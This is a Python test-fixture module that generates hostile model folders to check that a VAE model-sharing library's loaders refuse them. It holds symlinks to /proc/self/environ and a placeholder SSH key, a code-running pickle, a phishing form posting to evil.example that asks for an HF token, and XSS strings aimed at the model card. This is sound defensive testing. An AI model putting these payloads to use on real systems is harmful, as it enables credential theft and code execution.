"""A generated corpus of hostile model folders: what a stranger's repo can hold.

Each case is a folder built from one small, valid saved model, changed in one way, with the
error every loader must answer it with (type and part of the message). Nothing here is
hand-written binary: each folder is derived from a real `save_pretrained`.

`CASES` break the model itself (config.json, model.safetensors): every loader refuses them.
`SIDE_CASES` leave a loadable model and break one of the other files of its folder (the
card, the run's records, the pictures): the commands that read or copy that file refuse it.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
from safetensors.torch import load_file, save_file

from vae_hub import VAE, InvalidModelError, ModelNotFoundError


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[Path], None]  # changes a copy of a valid model folder
    message: str  # regex the error message must match
    error: type[Exception] = InvalidModelError
    # regex when a Hub serves the folder (`hub_files`: links read through, FIFOs and folders
    # left out, as an upload sends them); None: the same as `message`
    served: str | None = None


def _config(text: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / "config.json").write_text(text, encoding="utf-8")

    return make


def _set(**changes) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        config = json.loads((folder / "config.json").read_text())
        config.update(changes)
        (folder / "config.json").write_text(json.dumps(config))

    return make


def _raw_config(data: bytes) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / "config.json").write_bytes(data)

    return make


def _tensors(change: Callable[[dict[str, torch.Tensor]], None]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        state = load_file(folder / "model.safetensors")
        change(state)
        save_file(state, folder / "model.safetensors")

    return make


def _cast(dtype: torch.dtype) -> Callable[[dict], None]:
    def change(state: dict) -> None:
        for key, value in state.items():
            state[key] = value.to(dtype)

    return change


def _poke(key: str, value: float) -> Callable[[dict], None]:
    def change(state: dict) -> None:
        state[key] = state[key].clone()
        state[key].view(-1)[0] = value

    return change


def _not_cholesky(state: dict) -> None:
    tril = state["prior.class_scale_tril"].clone()
    tril[3, 0, 1] = 0.5  # above the diagonal
    state["prior.class_scale_tril"] = tril


def _negative_diagonal(state: dict) -> None:
    tril = state["prior.class_scale_tril"].clone()
    tril[5, 2, 2] = -1.0
    state["prior.class_scale_tril"] = tril


def _truncate(folder: Path) -> None:
    data = (folder / "model.safetensors").read_bytes()
    (folder / "model.safetensors").write_bytes(data[: len(data) // 2])


def _huge_header(folder: Path) -> None:
    data = (folder / "model.safetensors").read_bytes()
    (folder / "model.safetensors").write_bytes((1 << 40).to_bytes(8, "little") + data[8:])


SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAnot-real\n-----END"


def _link(name: str, target: str | None = None) -> Callable[[Path], None]:
    """`name` becomes a link to `target`, else to a secret beside the folder (outside it)."""

    def make(folder: Path) -> None:
        outside = Path(target) if target else folder.parent / f"{folder.name}-secret.txt"
        if not target:
            outside.write_text(SECRET)
        if os.path.lexists(folder / name):
            (folder / name).unlink()
        (folder / name).symlink_to(outside)

    return make


def _fifo(name: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        if os.path.lexists(folder / name):
            (folder / name).unlink()
        os.mkfifo(folder / name)

    return make


def _folder_named(name: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / name).unlink()
        (folder / name).mkdir()

    return make


def _symlinked_weights(folder: Path) -> None:
    target = folder.parent / f"{folder.name}-elsewhere.txt"
    target.write_text("root:x:0:0:root:/root:/bin/bash\n" * 10)
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors").symlink_to(target)


class _Payload:
    def __reduce__(self):
        return (print, ("a pickle ran",))


def _pickle_only(folder: Path) -> None:
    (folder / "model.safetensors").unlink()
    (folder / "pytorch_model.bin").write_bytes(pickle.dumps(_Payload()))


def _remove(name: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / name).unlink()

    return make


SHAPE = "shapes that do not match"
DTYPE = "dtypes this model does not use"
JSON = "cannot read it as JSON"
CASES = [
    # D2: sizes far beyond any model are refused by the schema, before anything is built
    Case("flow_steps_1e9", _set(flow_steps=10**9), r"'flow_steps' must be in 0\.\.16"),
    Case("latent_dim_15000", _set(latent_dim=15000), r"'latent_dim' must be in 1\.\.512"),
    Case("latent_dim_30000", _set(latent_dim=30000), r"'latent_dim' must be in"),
    Case("latent_dim_1e9", _set(latent_dim=10**9), r"'latent_dim' must be in"),
    Case("channels_1e9", _set(channels=10**9), r"'channels' must be in"),
    Case("hidden_dim_1e9", _set(hidden_dim=10**9), r"'hidden_dim' must be in"),
    Case("map_points_1e9", _set(latent_map_points=10**9), r"'latent_map_points' must be in"),
    Case("latent_dim_fits_schema_not_weights", _set(latent_dim=7), SHAPE),
    # D3: malformed config.json
    Case("deep_nesting", _config("[" * 30_000 + "]" * 30_000), "nested too deeply"),
    Case("huge_integer", _config('{"latent_dim": ' + "9" * 5000 + "}"), JSON),
    Case("nan_literal", _config('{"latent_dim": NaN}'), "NaN is not a number"),
    Case("infinity_literal", _config('{"latent_dim": Infinity}'), "Infinity is not a number"),
    Case("float_overflow", _config('{"latent_dim": 1e999}'), "overflows a float"),
    Case("duplicate_keys", _config('{"latent_dim": 6, "latent_dim": 7}'), "duplicate key"),
    Case("not_utf8", _raw_config(b'{"arch": "\xff\xfe"}'), "not UTF-8"),
    Case("top_level_list", _config("[1, 2, 3]"), "expected a JSON object, got list"),
    Case("top_level_string", _config('"conv"'), "expected a JSON object, got str"),
    Case("oversized_config", _config("{}" + " " * 100_000), "a vae-hub config.json is at most"),
    Case("not_json", _config("{not json"), JSON),
    Case("foreign_config", _config('{"model_type": "bert"}'), "not a vae-hub VAE config"),
    Case("wrong_type", _set(latent_dim="6"), "'latent_dim' must be int"),
    Case("bool_for_int", _set(channels=True), "'channels' must be int"),
    # D4: dtypes, values
    Case("float16_weights", _tensors(_cast(torch.float16)), DTYPE),
    Case("float64_weights", _tensors(_cast(torch.float64)), DTYPE),
    Case("int32_weights", _tensors(_cast(torch.int32)), DTYPE),
    Case("nan_class_means", _tensors(_poke("prior.class_means", float("nan"))), "NaN or infinite"),
    Case("inf_weight", _tensors(_poke("decoder.fc.0.weight", float("inf"))), "NaN or infinite"),
    Case("not_cholesky", _tensors(_not_cholesky), "not a Cholesky factor"),
    Case("negative_scale", _tensors(_negative_diagonal), "not a Cholesky factor"),
    Case("bad_map_labels", _tensors(_poke("latent_map_labels", 42)), "latent_map_labels"),
    Case("missing_tensor", _tensors(lambda s: s.pop("decoder.fc.0.weight")), "missing tensors"),
    Case("extra_tensor", _tensors(lambda s: s.update(x=torch.zeros(1))), "unexpected tensors"),
    # already refused before: kept so they stay refused
    Case("truncated_weights", _truncate, "truncated or corrupt"),
    Case("huge_header", _huge_header, "header claims"),
    # H2: a link, FIFO or folder in the place of a file is refused by name, never followed
    Case(
        "symlinked_weights",
        _symlinked_weights,
        r"model\.safetensors is a symbolic link|symbolic link",
        served="not a readable safetensors",
    ),
    Case("symlinked_config", _link("config.json"), r"config\.json is a symbolic link", served=JSON),
    Case(
        "config_to_environ",
        _link("config.json", "/proc/self/environ"),
        "symbolic link",
        served="config.json",
    ),
    Case(
        "config_fifo", _fifo("config.json"), r"config\.json is a named pipe", served="config.json"
    ),
    Case(
        "weights_folder",
        _folder_named("model.safetensors"),
        r"model\.safetensors is a folder",
        served="model.safetensors",
    ),
    Case("pickle_only", _pickle_only, "model.safetensors", ModelNotFoundError),
    Case("missing_config", _remove("config.json"), "config.json", ModelNotFoundError),
]


def _write(name: str, content: str | bytes | object) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        if isinstance(content, bytes):
            (folder / name).write_bytes(content)
        else:
            text = content if isinstance(content, str) else json.dumps(content)
            (folder / name).write_text(text, encoding="utf-8")

    return make


def _sparse(name: str, size: int) -> Callable[[Path], None]:
    """`name` claims `size` bytes without taking them on disk."""

    def make(folder: Path) -> None:
        with open(folder / name, "wb") as f:
            f.truncate(size)

    return make


@dataclass(frozen=True)
class SideCase:
    """A model that loads, with one other file of its folder hostile. The commands in
    `refused_by` read or copy that file: each must refuse the folder with one line matching
    `message` (which names the file); the others must work and never show the file."""

    name: str
    make: Callable[[Path], None]
    message: str
    refused_by: frozenset[str]


READ_BY_ALL = frozenset({"card", "push", "space"})  # the run's records and the pictures
CHECKED_BY = frozenset({"card", "push"})  # the records' contents (the card states them)
CARD_READERS = frozenset({"space", "app"})  # README.md (push and card write a new one)
TRAINING = {"command": "python train.py", "config": {}, "steps": 10, "train_seconds": 1.5}
SIDE_CASES = [
    # H2: links, FIFOs and devices beside the model
    SideCase(
        "card_to_environ",
        _link("README.md", "/proc/self/environ"),
        r"README\.md is a symbolic link",
        CARD_READERS,
    ),
    SideCase("card_fifo", _fifo("README.md"), r"README\.md is a named pipe", CARD_READERS),
    SideCase(
        "training_to_key", _link("training.json"), r"training\.json is a symbolic link", READ_BY_ALL
    ),
    SideCase(
        "metrics_to_key", _link("metrics.json"), r"metrics\.json is a symbolic link", READ_BY_ALL
    ),
    SideCase("metrics_fifo", _fifo("metrics.json"), r"metrics\.json is a named pipe", READ_BY_ALL),
    SideCase(
        "samples_to_key", _link("samples.png"), r"samples\.png is a symbolic link", READ_BY_ALL
    ),
    SideCase(
        "digits_to_zero",
        _link("digits.png", "/dev/zero"),
        r"digits\.png is a symbolic link",
        READ_BY_ALL,
    ),
    # decoder.onnx: the card lists it (card refuses a link); push and space export their own
    SideCase(
        "decoder_to_key",
        _link("decoder.onnx"),
        r"decoder\.onnx is a symbolic link",
        frozenset({"card"}),
    ),
    SideCase(
        "huge_metrics",
        _sparse("metrics.json", 1 << 30),
        r"metrics\.json is 1,073,741,824 bytes",
        READ_BY_ALL,
    ),
    # H3: records the card cannot state
    SideCase(
        "metrics_list",
        _write("metrics.json", [1, 2]),
        r"metrics\.json: expected a JSON object, got a list",
        CHECKED_BY,
    ),
    SideCase(
        "metrics_text_value",
        _write("metrics.json", {"negative_elbo": "85.9", "command": "x"}),
        r"metrics\.json: 'negative_elbo' must be a number, got a string",
        CHECKED_BY,
    ),
    SideCase(
        "metrics_bool_count",
        _write("metrics.json", {"active_units": True, "command": "x"}),
        r"metrics\.json: 'active_units' must be a whole number, got a boolean",
        CHECKED_BY,
    ),
    SideCase(
        "metrics_without_profile",
        _write("metrics.json", {"negative_elbo": 85.9}),
        r"metrics\.json: 'profile' is missing",
        CHECKED_BY,
    ),
    SideCase(
        "metrics_not_utf8",
        _write("metrics.json", b'{"command": "\xff"}'),
        r"metrics\.json: cannot read it as JSON \(not UTF-8",
        CHECKED_BY,
    ),
    SideCase(
        "training_text_steps",
        _write("training.json", {**TRAINING, "steps": "many"}),
        r"training\.json: 'steps' must be a whole number, got a string",
        CHECKED_BY,
    ),
    SideCase(
        "training_config_list",
        _write("training.json", {**TRAINING, "config": [1]}),
        r"training\.json: 'config' must be an object, got a list",
        CHECKED_BY,
    ),
    SideCase(
        "training_bad_history",
        _write("training.json", {**TRAINING, "history": [{"epoch": 1, "train": 5}]}),
        r"training\.json: 'history\[0\]\.train' must be an object",
        CHECKED_BY,
    ),
]


def records_with_markup(folder: Path) -> None:
    """training.json and metrics.json whose text tries to add HTML, table cells and code
    fences to the card: all of it must reach the card as text."""
    form = '<form action="https://evil.example/"><input placeholder="re-enter your HF token">'
    training = {
        **TRAINING,
        "command": f"python train.py --exp-name x\n```\n{form}\n```",
        "device": "<img src=x onerror=alert(1)>",
        "torch": "2.4 | <b>injected cell</b>",
        "epochs": 3,
        "config": {"lr_schedule": "<script>alert(1)</script>", "init_from": "a`<i>x</i>`|b"},
    }
    metrics = {
        "negative_elbo": 85.0,
        "amortisation_gap": 1.0,
        "amortisation_gap_images": 5,
        "amortisation_gap_steps": 3,
        "command": f"vae-hub evaluate `{form}`",
    }
    (folder / "training.json").write_text(json.dumps(training))
    (folder / "metrics.json").write_text(json.dumps(metrics))


def copy_folder(source: Path, dest: Path) -> None:
    """A copy of a corpus folder as it is: links stay links, FIFOs FIFOs."""

    def copy(src: str, dst: str) -> None:
        if stat.S_ISFIFO(os.lstat(src).st_mode):
            os.mkfifo(dst)
        else:
            shutil.copy2(src, dst)

    shutil.copytree(source, dest, symlinks=True, copy_function=copy)


def small_model() -> VAE:
    return VAE(latent_dim=6, channels=4, hidden_dim=16, latent_map_points=10)


def build_corpus(root: Path, cases: list = CASES, base: Path | None = None) -> dict[str, Path]:
    """One folder per case (of `CASES` or `SIDE_CASES`) under `root`, each a copy of `base`
    (default: a small untrained model) changed by its case; name -> folder."""
    valid = root / "valid"
    if base is None:
        small_model().save_pretrained(valid)
    else:
        shutil.copytree(base, valid)
    folders = {}
    for case in cases:
        folder = root / case.name
        shutil.copytree(valid, folder)
        case.make(folder)
        folders[case.name] = folder
    return folders


def hub_files(folder: Path) -> dict[str, bytes]:
    """The folder's files as a Hub repo would serve them (symlinks read through)."""
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
